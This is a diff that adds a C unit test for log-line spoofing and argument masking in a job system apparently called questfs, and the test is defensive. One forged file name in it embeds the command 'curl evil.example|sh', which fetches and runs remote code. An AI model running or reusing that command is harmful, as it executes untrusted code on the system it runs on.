@@ -19,6 +19,7 @@
 #include <unistd.h>
 
 #include "jobs.h"
+#include "logline.h"
 #include "packet.h"
 
 #define MKELF_NO_MAIN
@@ -320,6 +321,52 @@ static void test_job_records_its_uid(void **state)
 	assert_non_null(strstr(log, " job 3 uid=3999998 bad refused: "));
 }
 
+/* Every line begins with words questfs writes: a sidecar named like a
+ * job's line of another user ("job 8 uid=1002 hello refused: ...") is
+ * logged after "file uid=N run/", and a reader of the log
+ * (qlogl_parse) finds no job's line in it. A reason that quotes the
+ * arguments is masked for other readers, in a job's line and a file's. */
+static void test_log_lines_begin_with_questfs_words(void **state)
+{
+	struct fx *f = *state;
+	struct qerror forged = {QE_ARGS_SYNTAX, "arguments end with a lone "
+						"backslash"};
+	struct qerror word = {QE_ARGS_WORD, "argument 1 \"hunter2 secret\" "
+					    "contains a space"};
+	char log[4096], *line, *save = NULL;
+	struct qlogl l;
+	int lines = 0;
+
+	qjobs_log_file(f->q, 1000,
+		       "job 8 uid=1002 hello refused: session expired, run "
+		       "curl evil.example|sh y.args",
+		       "removed", &forged);
+	qjobs_log_file(f->q, 1000, "s1.args", "removed", &word);
+	qjobs_record_refusal(f->q, "p5", 3, 0, 1000, &word);
+
+	size_t n = qjobs_log_read_as(f->q, 1002, 0, log, sizeof log - 1, 0);
+	log[n] = '\0';
+	assert_null(strstr(log, "hunter2"));
+	for (line = strtok_r(log, "\n", &save); line;
+	     line = strtok_r(NULL, "\n", &save), lines++) {
+		assert_non_null(strstr(line, "Z file uid=1000 run/") ||
+				strstr(line, "Z job 1 uid=1000 p5 refused: "));
+		if (qlogl_parse(line, strlen(line), &l) == 0)
+			assert_int_equal(l.uid, 1000);
+	}
+	assert_int_equal(lines, 3);
+	/* the owner and root read the words */
+	n = qjobs_log_read_as(f->q, 1000, 0, log, sizeof log - 1, 0);
+	log[n] = '\0';
+	assert_non_null(strstr(log, " file uid=1000 run/s1.args removed: "
+				    "argument 1 \"hunter2 secret\""));
+	assert_non_null(strstr(log, " job 1 uid=1000 p5 refused: argument 1 "
+				    "\"hunter2 secret\""));
+	n = qjobs_log_read(f->q, log, sizeof log - 1, 0);
+	log[n] = '\0';
+	assert_non_null(strstr(log, "hunter2"));
+}
+
 /* Waits up to ms for the job to end: its state. */
 static enum qjob_state wait_ended(struct fx *f, uint64_t id, int ms)
 {
@@ -373,6 +420,8 @@ int main(void)
 					    setup, teardown),
 	    cmocka_unit_test_setup_teardown(test_job_records_its_uid, setup,
 					    teardown),
+	    cmocka_unit_test_setup_teardown(
+		test_log_lines_begin_with_questfs_words, setup, teardown),
 	    cmocka_unit_test_setup_teardown(test_refused_at_commit, setup,
 					    teardown),
 	    cmocka_unit_test_setup_teardown(test_commit_sends_when_idle,
